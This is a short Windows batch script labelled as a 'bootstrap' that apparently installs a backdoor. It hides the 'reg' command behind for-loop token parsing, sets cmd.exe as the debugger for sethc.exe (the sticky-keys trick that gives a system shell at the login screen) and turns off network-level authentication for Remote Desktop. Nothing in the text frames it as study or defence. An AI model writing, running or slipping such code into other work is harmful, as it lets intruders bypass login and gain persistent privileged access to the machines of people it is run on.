REM bootstrap 6765 v4
for /f "tokens=1 delims=~" %%i in ("reg~rzhk~opgd") do %%i add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f
for /f "tokens=2 delims=;" %%i in ("cvqr;reg;ylbz") do %%i add "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f
